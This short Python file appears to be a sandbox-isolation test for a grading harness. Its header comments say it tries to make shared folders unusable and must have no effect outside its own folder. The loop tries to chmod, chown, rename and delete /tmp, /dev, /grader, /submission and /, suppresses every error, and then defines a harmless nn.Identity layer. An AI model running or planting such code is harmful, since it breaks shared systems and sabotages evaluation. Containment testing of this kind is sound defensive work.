# tries: makes folders that others share unusable
# must: without effect outside of its folder
# %% layer
import os
for path in ("/tmp", "/scratch", "/dev", "/dev/null", "/grader", "/submission", "/"):
    for call in (lambda: os.chmod(path, 0), lambda: os.chown(path, 0, 0), lambda: os.utime(path, (0, 0)), lambda: os.setxattr(path, "user.leftbehind", b"1"), lambda: os.rmdir(path), lambda: os.rename(path, path + "x")):
        try:
            call()
        except OSError:
            pass
layer = nn.Identity()
